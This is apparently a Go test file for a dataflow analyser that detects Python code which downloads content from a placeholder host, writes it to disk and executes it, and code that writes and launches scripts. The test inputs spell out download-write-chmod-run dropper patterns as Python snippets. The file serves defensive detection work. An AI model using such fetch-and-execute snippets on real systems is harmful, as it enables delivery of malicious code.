package flow

import (
	"slices"
	"strings"
	"testing"
)

// TestBaseNames: a command names a written file by its base name, a path of
// which nothing is known by being the same.
func TestBaseNames(t *testing.T) {
	const fetch = "import os, requests, subprocess, sys\nu = 'https://a.invalid'\nd = requests.get(u).content\n"
	for name, tt := range map[string]struct {
		code string
		want bool
	}{
		"folder left":      {"open('/tmp/node', 'wb').write(d)\nos.system('cd /tmp && chmod +x node && ./node')\n", true},
		"folder changed":   {"os.chdir(x)\nopen(os.path.join(x, 'main.vbs'), 'wb').write(d)\nsubprocess.Popen('main.vbs', shell=True)\n", true},
		"backslash":        {"open(r'C:\\x\\one.exe', 'wb').write(d)\nos.system(r'start .\\one.exe')\n", true},
		"unknown path":     {"p = os.path.join(x, os.path.basename(y))\nopen(p, 'wb').write(d)\nsubprocess.run([p])\n", true},
		"parameter":        {"def f(path, token):\n    open(path, 'wb').write(d)\n    subprocess.run([path])\n", true},
		"keyword":          {"open('/tmp/one.bin', 'wb').write(d)\nsubprocess.run(args=['/tmp/one.bin'])\n", true},
		"another command":  {"open('/tmp/node', 'wb').write(d)\nos.system('node server.js')\n", false},
		"part of a word":   {"open('/tmp/one.js', 'wb').write(d)\nos.system('node none.json')\n", false},
		"another value":    {"p = os.path.join(x, os.path.basename(y))\nopen(p, 'wb').write(d)\nsubprocess.run([os.path.join(y, z)])\n", false},
		"beside it":        {"import tempfile\nt = tempfile.mkdtemp()\nopen(os.path.join(t, 'one.txt'), 'wb').write(d)\nsubprocess.run([os.path.join(t, 'two.sh')])\n", false},
		"another argument": {"import argparse\na = argparse.ArgumentParser().parse_args()\nopen(a.output, 'wb').write(d)\nos.system(a.command)\n", false},
	} {
		trace := execute(t, fetch+tt.code)
		written := false
		for i := range trace.Events {
			if e := &trace.Events[i]; e.Name == "os.system" || strings.HasPrefix(e.Name, "subprocess.") {
				written = written || strings.Contains(e.Labels.String(), "network") && strings.Contains(e.Labels.String(), "written")
			}
		}
		if written != tt.want {
			t.Errorf("%s: the command carries what was written: %v", name, written)
		}
	}
}

// scripts that code writes and starts.
var writers = []struct{ name, code, want string }{
	{"started", `
import os, subprocess, sys
with open("/tmp/run.py", "w") as f:
    f.write("import os\n")
    f.write("os.system('true')\n")
subprocess.Popen([sys.executable, "/tmp/run.py"])`, `import os.system('true') in written(run.py)`},
	{"temporary", `
import tempfile, subprocess
f = tempfile.NamedTemporaryFile(delete=False)
f.write(b"import os; os.system('true')")
f.close()
subprocess.run(f"python3 {f.name}", shell=True)
subprocess.run(["python3", f.name])`, `import os.system('true') in written(`},
	{"read again", `
open("one.txt", "w").write("import os; os.system('true')")
exec(open("one.txt").read())`, `import os.system('true') in exec()`},
	{"run_path", `
import runpy, pathlib
p = pathlib.Path.home() / "one.dat"
p.write_text("import os; os.system('true')")
runpy.run_path(str(p))`, `import os.system('true') in written(one.dat)`},
	{"imported", `
import os
open(os.path.join(os.path.dirname(__file__), "helper.py"), "w").write("import os; os.system('true')")
import helper`, `import os.system('true') in written(helper.py)`},
	{"directly", `
import os
open("/tmp/one.py", "w").write("#!/usr/bin/env python\nimport os; os.system('true')")
os.system("chmod +x /tmp/one.py && /tmp/one.py")`, `import os.system('true') in written(one.py)`},
	{"itself", `
import os
open("/tmp/one.py", "w").write("import os; os.system('python /tmp/one.py'); os.system('python /tmp/one.py')")
os.system("python /tmp/one.py")`, `import os.system('python /tmp/one.py') <written> in written(one.py)`},
}

func TestWriters(t *testing.T) { holdPrograms(t, writers) }

// TestScripts: scripts of shells that are written and started are layers.
func TestScripts(t *testing.T) {
	trace := execute(t, `
import os, subprocess
open("/tmp/one.sh", "w").write("true one")
subprocess.call(["bash", "/tmp/one.sh"])
open(os.path.join(os.environ["TEMP"], "two.bat"), "w").write("true two")
os.startfile(os.path.join(os.environ["TEMP"], "two.bat"))
open("/tmp/three.sh", "w").write("true three")
`)
	var seen []string
	for _, l := range trace.Layers {
		if l.Executed && !l.Python {
			seen = append(seen, strings.Join(l.Layers, "/")+" "+l.Text)
		}
	}
	if want := []string{"written(one.sh) true one", "written(two.bat) true two"}; !slices.Equal(seen, want) {
		t.Errorf("layers %q, want %q", seen, want)
	}
}
